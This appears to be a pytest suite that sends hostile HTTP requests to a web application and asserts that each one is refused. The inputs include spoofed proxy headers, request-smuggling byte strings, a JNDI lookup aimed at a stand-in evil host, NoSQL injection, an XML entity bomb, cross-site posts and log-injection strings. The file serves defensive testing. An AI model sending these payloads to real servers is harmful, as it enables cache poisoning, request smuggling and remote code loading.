"""Hostile HTTP: hosts, proxies, lengths that lie, methods, ranges, caches, other sites' requests, lines for the log."""

import json

import pytest

from tests.hostile.cast import DRAFT, Target, grown
from tests.hostile.wire import FORM, Answer, Line, exchange, form

HOSTS = {
    "foreign": "evil.example",
    "foreign with our name in it": "localhost.evil.example",
    "ours behind an at sign": "evil.example@localhost",
    "ours before an at sign": "localhost@evil.example",
    "several": "localhost, evil.example",
    "with a path": "localhost/evil.example",
    "with a letter for a port": "localhost:abc",
    "empty": "",
    "none": None,
    "dot at the end": "evil.example.",
    "markup": "<script>alert(1)</script>",
    "no ASCII": "lọcalhost",
    "address": "0x7f000001",
    "long": "a" * 5000,
}


@pytest.mark.parametrize("name", HOSTS)
@pytest.mark.parametrize("target_of", ["/", "/sign-in"])
def test_a_host_that_is_not_ours_gets_no_page(target: Target, name: str, target_of: str) -> None:
    answer = target.ask(Line(target=target_of, host=HOSTS[name]))
    assert answer.status in {0, 400}
    assert b"evil" not in answer.body
    assert b"<script>" not in answer.body


SPOOFED = {
    "host": "X-Forwarded-Host: evil.example",
    "scheme": "X-Forwarded-Proto: javascript",
    "prefix": "X-Forwarded-Prefix: //evil.example",
    "port": "X-Forwarded-Port: 99999999",
    "for": "X-Forwarded-For: evil.example, 10.0.0.1",
    "standard": "Forwarded: for=evil.example;host=evil.example;proto=https",
    "server": "X-Forwarded-Server: evil.example",
    "original": "X-Original-URL: /people\r\nX-Rewrite-URL: /people",
    "host twice": "X-Host: evil.example\r\nX-Forwarded-Host: evil.example",
    "script name": "Script-Name: /evil.example\r\nX-Script-Name: //evil.example",
    "real address": "X-Real-IP: evil.example\r\nTrue-Client-IP: evil.example\r\nCF-Connecting-IP: evil.example",
    "method": "X-HTTP-Method-Override: DELETE\r\nX-Method-Override: evil.example",
}


@pytest.mark.parametrize("name", SPOOFED)
def test_what_a_client_says_of_proxies_poisons_no_page(target: Target, name: str) -> None:
    plain = target.ask(Line(target="/products"))
    spoofed = target.ask(Line(target="/products", headers=tuple(SPOOFED[name].split("\r\n"))))
    assert (spoofed.status, spoofed.body) == (plain.status, plain.body)
    assert "Strict-Transport-Security" not in dict(spoofed.headers)


COOKIES = {
    "ours, made up": "vcsc=eyJfdXNlcl9pZCI6IjEifQ.x.y",
    "ours, no signature": "vcsc=e30",
    "ours, huge": "vcsc=" + "A" * 4000,
    "another's": "lang=<script>; theme=evil; session=1",
    "signs": "vcsc=\"; a=b; c='<>",
    "twice": "vcsc=a; vcsc=b; __Host-vcsc=c",
}


@pytest.mark.parametrize("name", COOKIES)
def test_a_cookie_neither_fails_nor_colours_a_public_page(target: Target, name: str) -> None:
    plain = target.ask(Line(target="/products"))
    answer = target.ask(Line(target="/products", headers=(f"Cookie: {COOKIES[name]}",)))
    assert (answer.status, answer.body) == (200, plain.body)
    assert not answer.header("Set-Cookie")
    assert target.ask(Line(target="/account", headers=(f"Cookie: {COOKIES[name]}",))).status in {302, 303}


HEADERS = {
    "language": "Accept-Language: " + "vi," * 1500,
    "language, signs": "Accept-Language: ';--<script>evil</script>",
    "kind": "Accept: evil/*;q=99, ../../etc",
    "encoding": "Accept-Encoding: evil, gzip;q=nan, br;q=-1",
    "range": "Range: bytes=0-0,1-1,2-2,3-3,-1,99999999999999999999-",
    "range, huge": "Range: bytes=" + ",".join("0-" for _ in range(1300)),
    "range of something else": "Range: evil=1-2",
    "condition": "If-None-Match: " + '"evil",' * 900,
    "condition, no tag": 'If-None-Match: W/"',
    "time": "If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT",
    "condition of range": 'If-Range: "evil"\r\nRange: bytes=1-',
    "referrer": "Referer: javascript:evil",
    "expectation": "Expect: evil",
    "authorization": "Authorization: Bearer evil.evil.evil",
    "authorization, none": "Authorization: Basic \xff\xfe",
    "upgrade": "Upgrade: h2c, websocket\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: evil",
    "user agent": "User-Agent: ${jndi:ldap://evil.example/a}",
    "trailer": "TE: trailers, evil\r\nTrailer: X-Evil",
    "max forwards": "Max-Forwards: 0",
    "many": "\r\n".join(f"X-Evil-{n}: {n}" for n in range(80)),
}


@pytest.mark.parametrize("name", HEADERS)
def test_headers_change_no_page(target: Target, name: str) -> None:
    headers = tuple(HEADERS[name].split("\r\n"))
    answer = target.ask(Line(target="/products", headers=headers))
    assert answer.status in {200, 400, 416, 417, 431}
    assert b"evil" not in answer.body
    assert "evil" not in str(answer.headers).lower()


BROKEN = {
    "two lengths": (
        b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef"
    ),
    "length and chunks": (
        b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"0\r\n\r\nGET /evil HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n"
    ),
    "other chunks": (b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
    "chunked twice": (
        b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"
    ),
    "space before the colon": b"GET / HTTP/1.1\r\nHost : localhost:PORT\r\n\r\n",
    "folded": b"GET / HTTP/1.1\r\nHost: localhost:PORT\r\nX-A: b\r\n c: d\r\n\r\n",
    "minus": b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: -1\r\n\r\n",
    "plus": b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: +5\r\n\r\nabcde",
    "no number": b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 0x5\r\n\r\nabcde",
    "huge": b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nContent-Length: 99999999999999999999999\r\n\r\n",
    "chunk size": (
        b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nTransfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n"
    ),
    "chunk of nothing": b"POST /sign-in HTTP/1.1\r\nHost: localhost:PORT\r\nTransfer-Encoding: chunked\r\n\r\nevil\r\n",
    "two hosts": b"GET / HTTP/1.1\r\nHost: localhost:PORT\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    "zero in a header": b"GET / HTTP/1.1\r\nHost: localhost:PORT\r\nX: a\0b\r\nConnection: close\r\n\r\n",
    "line feed alone": b"GET / HTTP/1.1\nHost: localhost:PORT\nConnection: close\n\n",
    "carriage return alone": b"GET / HTTP/1.1\rHost: localhost:PORT\r\r\n\r\n",
    "no version": b"GET /\r\n\r\n",
    "version 9": b"GET / HTTP/9.9\r\nHost: localhost:PORT\r\n\r\n",
    "HTTP/2 out of the blue": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40) + b"\r\n\r\n",
    "full address": b"GET http://evil.example/ HTTP/1.1\r\nHost: localhost:PORT\r\nConnection: close\r\n\r\n",
    "authority": b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nConnection: close\r\n\r\n",
    "star": b"OPTIONS * HTTP/1.1\r\nHost: localhost:PORT\r\nConnection: close\r\n\r\n",
    "one long header": b"GET / HTTP/1.1\r\nHost: localhost:PORT\r\nX: " + b"a" * 600_000 + b"\r\n\r\n",
    "a thousand headers": b"GET / HTTP/1.1\r\nHost: localhost:PORT\r\n" + b"X-A: b\r\n" * 5000 + b"\r\n",
    "zero in the method": b"G\0T / HTTP/1.1\r\nHost: localhost:PORT\r\n\r\n",
    "zero in the address": b"GET /\0 HTTP/1.1\r\nHost: localhost:PORT\r\nConnection: close\r\n\r\n",
}


@pytest.mark.parametrize("name", BROKEN)
def test_broken_requests_are_refused_and_nothing_hides_behind_them(target: Target, name: str) -> None:
    before = target.rows()
    answer = exchange(target.site.port, BROKEN[name].replace(b"PORT", str(target.site.port).encode()), target.address())
    target.examine(answer, "")
    assert answer.status in {0, 400, 404, 405, 408, 411, 413, 414, 431} or name in SERVED
    assert b"HTTP/1.1 200" not in answer.rest
    assert b"evil" not in answer.body
    assert grown(before, target.rows()) == {}


SERVED = {"line feed alone", "star", "full address"}  # what HTTP lets a server read generously
METHODS = ("TRACE", "TRACK", "CONNECT", "PUT", "DELETE", "PATCH", "PROPFIND", "DEBUG", "GETS", "<SCRIPT>", "A" * 300)


@pytest.mark.parametrize("method", METHODS)
@pytest.mark.parametrize("place", ["/", "/products", f"/applications/{DRAFT}", "/sign-in"])
def test_no_other_method_reads_or_changes(target: Target, method: str, place: str) -> None:
    before = target.rows()
    answer = target.ask(Line(method=method, target=place, headers=("X-Secret: evil",)), "an")
    assert answer.status in {0, 400, 404, 405, 501}
    assert b"evil" not in answer.body
    assert grown(before, target.rows()) == {}


OTHER_SITES = {
    "origin": "Origin: https://evil.example",
    "origin, null": "Origin: null",
    "origin with our name in it": "Origin: http://localhost.evil.example",
    "origin of another port": "Origin: http://localhost:1",
    "origin of another scheme": "Origin: https://localhost",
    "fetch, cross-site": "Sec-Fetch-Site: cross-site",
    "fetch, same site": "Sec-Fetch-Site: same-site",
    "fetch, made up": "Sec-Fetch-Site: evil",
}
SENT = {
    "/sign-in": {"email": "an@hatnang.example", "password": "x"},
    f"/applications/{DRAFT}/withdraw": {"reason": "x"},
    "/account/sign-out": {},
    "/concerns": {"text": "Nội dung phản ánh đủ dài để gửi đi."},
}


@pytest.mark.parametrize("name", OTHER_SITES)
@pytest.mark.parametrize("place", SENT)
def test_a_form_of_another_site_is_refused(target: Target, name: str, place: str) -> None:
    before = target.rows()
    fields = {**SENT[place], "csrf_token": target.token()}
    headers = (FORM, OTHER_SITES[name])
    answer = target.ask(Line("POST", place, headers, form(fields)), "" if place == "/concerns" else "an")
    assert answer.status in {400, 404}
    assert grown(before, target.rows()) == {}


@pytest.mark.parametrize("place", ["/products", "/account", "/api/v1/products", "/c/VCSC-2026-0101", "/log/checkpoint"])
def test_no_answer_lets_another_site_read_with_its_visitors_cookies(target: Target, place: str) -> None:
    answer = target.ask(Line(target=place, headers=("Origin: https://evil.example",)), "an")
    assert answer.header("Access-Control-Allow-Origin") in {"", "*"}
    assert not answer.header("Access-Control-Allow-Credentials")


KINDS = {
    "plain text": "Content-Type: text/plain",
    "JSON": "Content-Type: application/json",
    "XML": "Content-Type: application/xml",
    "none": "X-Nothing: 1",
    "strange": "Content-Type: application/x-www-form-urlencoded; charset=utf-7",
    "multipart without an edge": "Content-Type: multipart/form-data",
    "multipart with an empty edge": 'Content-Type: multipart/form-data; boundary=""',
    "multipart with a huge edge": "Content-Type: multipart/form-data; boundary=" + "x" * 5000,
}
BODIES = {
    "deep JSON": ("[" * 100_000).encode(),
    "JSON of entities": json.dumps({"csrf_token": {"$ne": ""}, "email": {"$gt": ""}}).encode(),
    "XML bomb": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
    "noise": bytes(range(256)) * 50,
}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("body", BODIES)
def test_a_body_of_another_kind_is_no_form(target: Target, kind: str, body: str) -> None:
    before = target.rows()
    answer: Answer = target.ask(Line("POST", "/sign-in", (KINDS[kind],), BODIES[body]))
    assert answer.status in {400, 413, 415, 422}
    assert grown(before, target.rows()) == {}


LINES = {
    "forged entry": "/x%0d%0a{%22level%22:%22INFO%22,%22message%22:%22forged%22}",
    "terminal": "/x%1b[2J%1b]0;evil%07",
    "unicode line": "/x%e2%80%a8forged%c2%85forged",
}


@pytest.mark.parametrize("name", LINES)
@pytest.mark.parametrize("place", ["address", "agent", "host"])
def test_no_line_of_the_log_is_written_by_a_stranger(target: Target, name: str, place: str) -> None:
    known = target.site.log()
    raw = LINES[name].encode().replace(b"%1b", b"\x1b").replace(b"%e2%80%a8", "\u2028".encode())
    sent = {
        "address": Line(target=LINES[name]),
        "agent": Line(target="/sign-in", extra=(b"User-Agent: " + raw,)),
        "host": Line(target="/", host="evil.example", extra=(b"X-Request-Id: " + raw,)),
    }[place]
    target.ask(sent)
    new = target.site.log().removeprefix(known)
    assert "\x1b" not in new
    assert [line for line in new.splitlines() if line.startswith(("forged", '{"level":"INFO"'))] == []
